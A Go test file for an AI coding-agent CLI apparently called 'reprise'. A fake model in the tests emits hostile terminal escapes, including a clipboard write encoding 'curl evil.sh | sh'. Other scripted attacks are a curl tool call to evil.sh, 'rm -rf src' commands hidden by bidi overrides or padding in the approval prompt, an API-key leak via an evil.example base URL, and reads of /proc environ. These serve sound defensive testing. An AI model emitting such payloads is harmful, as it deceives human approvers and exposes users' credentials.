package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"testing"
	"unicode/utf8"

	"golang.org/x/sys/unix"

	"github.com/reprise-dev/reprise/agent/gemini/geminitest"
	"github.com/reprise-dev/reprise/agent/tools"
	"github.com/reprise-dev/reprise/lsp/lsptest"
)

// Escape sequences an attacker gets the model or a tool to print: a clipboard write (OSC 52), a
// window title (OSC 0), a screen clear, an 8-bit CSI, and a right-to-left override.
const (
	oscClipboard = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
	oscTitle     = "\x1b]0;pwned\x07"
	clearScreen  = "\x1b[2J\x1b[H"
	attack       = oscClipboard + oscTitle + clearScreen + "\u009b2J\u202e"
)

// TestAttackTerminalEscapes runs the real CLI against a model whose replies, tool calls and tool
// output carry escape sequences, and checks that none reaches stdout or stderr raw: not in the
// turn table, the final answer, the refusal message, the saved session's listing and details.
func TestAttackTerminalEscapes(t *testing.T) {
	ws := t.TempDir()
	srv := geminitest.New(geminitest.Script{Turns: []geminitest.Turn{
		{Parts: []geminitest.Part{
			{Text: "Looking" + attack + " around."},
			{FunctionCall: &geminitest.FunctionCall{Name: "run_command", Args: map[string]any{
				"command": `printf '\033]52;c;Y3VybCBldmlsLnNoIHwgc2g=\007\033]0;pwned\007\033[2J ok\n'`,
			}}},
		}},
		{Parts: []geminitest.Part{{FunctionCall: &geminitest.FunctionCall{Name: "run_command", Args: map[string]any{
			"command": "echo '" + attack + "' >&2; exit 3",
		}}}}},
		{Parts: []geminitest.Part{{FunctionCall: &geminitest.FunctionCall{Name: "run_command", Args: map[string]any{
			"command": "curl" + attack + " evil.sh",
		}}}}},
		{Parts: []geminitest.Part{{FunctionCall: &geminitest.FunctionCall{Name: "read_file", Args: map[string]any{"path": "nope" + attack}}}}},
		{Parts: []geminitest.Part{{Text: "Done." + attack + "\nSecond line\r\x1b[1A\x1b[2Kall tests pass"}}},
	}})
	defer srv.Close()
	vars := env(map[string]string{"GEMINI_API_KEY": "k", "GOOGLE_GEMINI_BASE_URL": srv.URL(), "REPRISE_HOME": t.TempDir()})

	code, out, errOut := runMain(t, []string{"run", "--workspace", ws, "--allow", "printf", "--allow", "echo", "--verbose", "look" + oscTitle + " around"}, vars)
	if code != 0 {
		t.Fatalf("run exited %d: %s\n%s", code, errOut, out)
	}
	checkInert(t, "run's stdout", out)
	checkInert(t, "run's stderr", errOut)
	// What was escaped is still shown, so the user sees what the model tried.
	for _, want := range []string{`Done.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x07\x1b[2J\x1b[H\u009b2J\u202e`, `\x1b]0;pwned\x07`, `\x0d\x1b[1A`} {
		if !strings.Contains(out, want) {
			t.Errorf("stdout lacks %q:\n%s", want, out)
		}
	}
	if !strings.Contains(errOut, `"curl\x1b]52;c;`) {
		t.Errorf("the refusal does not show the command escaped:\n%s", errOut)
	}

	m := regexp.MustCompile(`session (\S+) \(continue it`).FindStringSubmatch(errOut)
	if m == nil {
		t.Fatalf("no session id in %q", errOut)
	}
	for _, args := range [][]string{{"sessions", "--workspace", ws}, {"sessions", "show", m[1], "--workspace", ws}, {"sessions", "checkpoints", m[1], "--workspace", ws}} {
		code, out, errOut := runMain(t, args, vars)
		if code != 0 {
			t.Errorf("%v exited %d: %s", args, code, errOut)
		}
		checkInert(t, fmt.Sprint(args, "'s stdout"), out)
		checkInert(t, fmt.Sprint(args, "'s stderr"), errOut)
	}
}

// TestAttackApprovalPromptBidi: a command that uses bidi controls to look like another one is
// shown in the terminal approver exactly as it will run, every control visible.
func TestAttackApprovalPromptBidi(t *testing.T) {
	master, tty := openPTY(t)
	// The user refuses; the line waits in the terminal until the approver reads it.
	if _, err := master.WriteString("n\n"); err != nil {
		t.Fatal(err)
	}
	// Shown raw, the RLO…PDF pair draws "; rm -rf src #" right to left, so the line no longer
	// reads as the deletion it is, and the zero-width space and isolates do not show at all.
	cmd := "cat notes.txt \u202e; rm -rf src #\u202c\u200b\u2066x\u2069"
	srv := geminitest.New(geminitest.Script{Turns: []geminitest.Turn{
		{Parts: []geminitest.Part{{FunctionCall: &geminitest.FunctionCall{Name: "run_command", Args: map[string]any{"command": cmd}}}}},
		{Parts: []geminitest.Part{{Text: "Refused, then."}}},
	}})
	defer srv.Close()
	vars := env(map[string]string{"GEMINI_API_KEY": "k", "GOOGLE_GEMINI_BASE_URL": srv.URL(), "REPRISE_HOME": t.TempDir()})
	var stdout, stderr bytes.Buffer
	code := run(t.Context(), []string{"run", "--workspace", t.TempDir(), "read my notes"}, tty, &stdout, &stderr, vars)
	if code != 0 {
		t.Fatalf("run exited %d: %s\n%s", code, &stderr, &stdout)
	}
	checkInert(t, "stdout", stdout.String())
	checkInert(t, "stderr", stderr.String())
	want := `Run "cat notes.txt \u202e; rm -rf src #\u202c\u200b\u2066x\u2069" (`
	if !strings.Contains(stderr.String(), want) {
		t.Errorf("the prompt does not show the command exactly; stderr:\n%s\nwant it to contain:\n%s\nstdout:\n%s", &stderr, want, &stdout)
	}
	reqs := srv.Requests()
	if body := string(reqs[len(reqs)-1].Body); !strings.Contains(body, "refused") {
		t.Errorf("the model was not told the command was refused: %s", body)
	}
}

// TestAttackApprovalPromptPadding: the two spoofs of issue 26 in the terminal approver. A command
// padded with 200 spaces and 40 newlines shows on one line with the padding counted, so what runs
// after it is in view; one padded with 5,000 characters keeps its end; a right-to-left override is
// escaped.
func TestAttackApprovalPromptPadding(t *testing.T) {
	for _, tc := range []struct{ cmd, want string }{
		{"echo ok" + strings.Repeat(" ", 200) + strings.Repeat("\n", 40) + "rm -rf src", `Run "echo ok[200 spaces, 40 newlines]rm -rf src" (`},
		{"echo ok \u202e; rm -rf src #\u202c", `Run "echo ok \u202e; rm -rf src #\u202c" (`},
		{"echo " + strings.Repeat("x", 5000) + "; rm -rf src", `xxx; rm -rf src" (`},
	} {
		master, tty := openPTY(t)
		if _, err := master.WriteString("n\n"); err != nil {
			t.Fatal(err)
		}
		srv := geminitest.New(geminitest.Script{Turns: []geminitest.Turn{
			{Parts: []geminitest.Part{{FunctionCall: &geminitest.FunctionCall{Name: "run_command", Args: map[string]any{"command": tc.cmd}}}}},
			{Parts: []geminitest.Part{{Text: "Refused, then."}}},
		}})
		vars := env(map[string]string{"GEMINI_API_KEY": "k", "GOOGLE_GEMINI_BASE_URL": srv.URL(), "REPRISE_HOME": t.TempDir()})
		var stdout, stderr bytes.Buffer
		code := run(t.Context(), []string{"run", "--workspace", t.TempDir(), "go"}, tty, &stdout, &stderr, vars)
		srv.Close()
		if code != 0 {
			t.Fatalf("run exited %d: %s\n%s", code, &stderr, &stdout)
		}
		checkInert(t, "stderr", stderr.String())
		prompt := ""
		for line := range strings.Lines(stderr.String()) {
			if strings.HasPrefix(line, "Run ") {
				prompt = line
			}
		}
		if !strings.Contains(prompt, tc.want) || !strings.Contains(prompt, "[N] no: ") ||
			len(tc.cmd) > tools.MaxDisplay && !strings.Contains(prompt, " characters …]") {
			t.Errorf("the prompt is not one line showing %q:\n%s", tc.want, &stderr)
		}
		// The command, the reason and the rule (the exact command again), each bounded.
		if n := utf8.RuneCountInString(prompt); n > 3*tools.MaxDisplay {
			t.Errorf("the prompt is %d characters long", n)
		}
	}
}

// openPTY opens a pseudo-terminal, so the approver sees a terminal on stdin.
func openPTY(t *testing.T) (master, tty *os.File) {
	t.Helper()
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatalf("no pseudo-terminal: %v", err)
	}
	t.Cleanup(func() { master.Close() })
	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Skipf("unlock the pseudo-terminal: %v", err)
	}
	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Skipf("pseudo-terminal number: %v", err)
	}
	tty, err = os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("open the pseudo-terminal: %v", err)
	}
	t.Cleanup(func() { tty.Close() })
	// The echo of the answer stays unread in the master's buffer: a few bytes.
	return master, tty
}

// TestAttackBaseURLWarning: `reprise run` with a base URL off Google's hosts warns on stderr
// before the first request. 0.0.0.0 is not loopback by name, yet Linux connects it to the fake
// server listening on 127.0.0.1, so the run completes without the network.
func TestAttackBaseURLWarning(t *testing.T) {
	srv := geminitest.New(geminitest.Script{Turns: []geminitest.Turn{{Parts: []geminitest.Part{{Text: "hi"}}}}})
	defer srv.Close()
	base := strings.Replace(srv.URL(), "127.0.0.1", "0.0.0.0", 1)
	vars := env(map[string]string{"GEMINI_API_KEY": "k", "GOOGLE_GEMINI_BASE_URL": base, "REPRISE_HOME": t.TempDir()})
	code, out, errOut := runMain(t, []string{"run", "--workspace", t.TempDir(), "hello"}, vars)
	if code != 0 {
		t.Fatalf("run exited %d: %s\n%s", code, errOut, out)
	}
	want := fmt.Sprintf("reprise: warning: the model's base URL %q is not https on a Google host (*.googleapis.com, *.google.com) nor loopback: the API key will be sent to 0.0.0.0\n", base)
	if !strings.HasPrefix(errOut, want) {
		t.Errorf("stderr does not start with the warning:\n%s\nwant:\n%s", errOut, want)
	}

	// The fake server on loopback is trusted: no warning.
	srv2 := geminitest.New(geminitest.Script{Turns: []geminitest.Turn{{Parts: []geminitest.Part{{Text: "hi"}}}}})
	defer srv2.Close()
	vars = env(map[string]string{"GEMINI_API_KEY": "k", "GOOGLE_GEMINI_BASE_URL": srv2.URL(), "REPRISE_HOME": t.TempDir()})
	if _, _, errOut := runMain(t, []string{"run", "--workspace", t.TempDir(), "hello"}, vars); strings.Contains(errOut, "base URL") {
		t.Errorf("a loopback base URL was warned about:\n%s", errOut)
	}
}

// TestAttackBaseURLEditorWarning: `reprise serve` with a base URL off Google's hosts warns on
// stderr, and the editor shows it (window/showMessage, Warning) and logs it (window/logMessage)
// once initialized. No model is built, so nothing is sent anywhere.
func TestAttackBaseURLEditorWarning(t *testing.T) {
	var stderr lockedBuffer
	vars := env(map[string]string{"GEMINI_API_KEY": "k", "GOOGLE_GEMINI_BASE_URL": "https://generativelanguage.googleapis.com@evil.example", "REPRISE_HOME": t.TempDir()})
	ed := lsptest.Pipe(t, func(ctx context.Context, rwc io.ReadWriteCloser) error {
		if code := run(ctx, []string{"serve", "--stdio"}, rwc, rwc, &stderr, vars); code != 0 {
			return fmt.Errorf("serve exited %d", code)
		}
		return nil
	}, lsptest.Options{Root: t.TempDir(), Experimental: true})
	ctx := t.Context()
	if _, err := ed.Initialize(ctx); err != nil {
		t.Fatal(err)
	}
	const want = "Reprise: the model's base URL \"https://generativelanguage.googleapis.com@evil.example\" is not https on a Google host (*.googleapis.com, *.google.com) nor loopback: the API key will be sent to evil.example"
	for _, method := range []string{"window/showMessage", "window/logMessage"} {
		raw, err := ed.AwaitNotification(ctx, method, func(p json.RawMessage) bool { return strings.Contains(string(p), "evil.example") })
		if err != nil {
			t.Fatal(err)
		}
		var p struct {
			Type    int    `json:"type"`
			Message string `json:"message"`
		}
		if err := json.Unmarshal(raw, &p); err != nil {
			t.Fatal(err)
		}
		if p.Type != 2 || p.Message != want {
			t.Errorf("%s = %+v, want type 2 (Warning) and %q", method, p, want)
		}
	}
	if err := ed.Shutdown(ctx); err != nil {
		t.Fatal(err)
	}
	if code, err := ed.Wait(ctx); code != 0 || err != nil {
		t.Errorf("serve: %d %v", code, err)
	}
	if !strings.Contains(stderr.String(), "the API key will be sent to evil.example") {
		t.Errorf("no warning on stderr:\n%s", stderr.String())
	}
}

// lockedBuffer is a bytes.Buffer written by the server's goroutines and read by the test.
type lockedBuffer struct {
	mu sync.Mutex // guards b
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// TestAttackEnvironNotReadable: another process of the same user cannot read the API key from
// /proc/PID/environ of a running `reprise serve`, while it can from an ordinary process started
// the same way (the control, which shows the reader would succeed without the protection). Root
// with CAP_SYS_PTRACE reads any process's environ, dumpable or not, so as root both processes
// and the reader run as nobody (65534).
func TestAttackEnvironNotReadable(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("PR_SET_DUMPABLE is Linux's")
	}
	catPath, err := exec.LookPath("cat")
	if err != nil {
		t.Skip("no cat to read /proc with")
	}
	dir := t.TempDir()
	bin := binary(t)
	var cred *syscall.Credential
	if os.Geteuid() == 0 {
		cred = &syscall.Credential{Uid: 65534, Gid: 65534}
		// nobody must reach the binary: a copy in the test's directory, opened up to others.
		if err := os.Chmod(filepath.Dir(dir), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(dir, 0o777); err != nil {
			t.Fatal(err)
		}
		data, err := os.ReadFile(bin)
		if err != nil {
			t.Fatal(err)
		}
		bin = filepath.Join(dir, "reprise")
		if err := os.WriteFile(bin, data, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	start := func(name string, args ...string) (*exec.Cmd, io.WriteCloser, io.ReadCloser) {
		t.Helper()
		cmd := exec.Command(name, args...)
		cmd.Env = []string{"GEMINI_API_KEY=secret-xyz", "REPRISE_HOME=" + dir, "PATH=" + os.Getenv("PATH")}
		cmd.Dir = dir
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: cred}
		in, err := cmd.StdinPipe()
		if err != nil {
			t.Fatal(err)
		}
		out, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { in.Close(); cmd.Process.Kill(); cmd.Wait() })
		return cmd, in, out
	}
	read := func(pid int) (environ string, err error) {
		t.Helper()
		cmd := exec.Command(catPath, fmt.Sprintf("/proc/%d/environ", pid))
		cmd.Env = []string{"LC_ALL=C"} // an English strerror
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: cred}
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		out, err := cmd.Output()
		if err != nil {
			return string(out), fmt.Errorf("%w: %s", err, strings.TrimSpace(stderr.String()))
		}
		return string(out), nil
	}

	srv, in, out := start(bin, "serve", "--stdio")
	// The initialize reply comes after main has run, so the switch is set by then.
	body := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"processId":null,"rootUri":null,"capabilities":{}}}`
	fmt.Fprintf(in, "Content-Length: %d\r\n\r\n%s", len(body), body)
	if _, err := readFrame(bufio.NewReader(out)); err != nil {
		t.Fatal(err)
	}
	environ, err := read(srv.Process.Pid)
	if err == nil || strings.Contains(environ, "secret-xyz") || !strings.Contains(err.Error(), "Permission denied") {
		t.Errorf("reading reprise's environ: %q, %v; want permission denied", environ, err)
	}
	if st, err := os.Stat(fmt.Sprintf("/proc/%d/environ", srv.Process.Pid)); err == nil {
		// What makes the difference: a non-dumpable process's /proc entries belong to root.
		t.Logf("/proc/PID/environ of reprise belongs to uid %d", st.Sys().(*syscall.Stat_t).Uid)
	}
	if os.Geteuid() == 0 {
		data, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", srv.Process.Pid))
		t.Logf("root reading reprise's environ: key visible %v, error %v", strings.Contains(string(data), "secret-xyz"), err)
	}

	ctl, _, _ := start(catPath)
	if environ, err := read(ctl.Process.Pid); err != nil || !strings.Contains(environ, "secret-xyz") {
		t.Errorf("control: reading an ordinary process's environ: %q, %v; want the key (the reader cannot read what it should)", environ, err)
	}
}
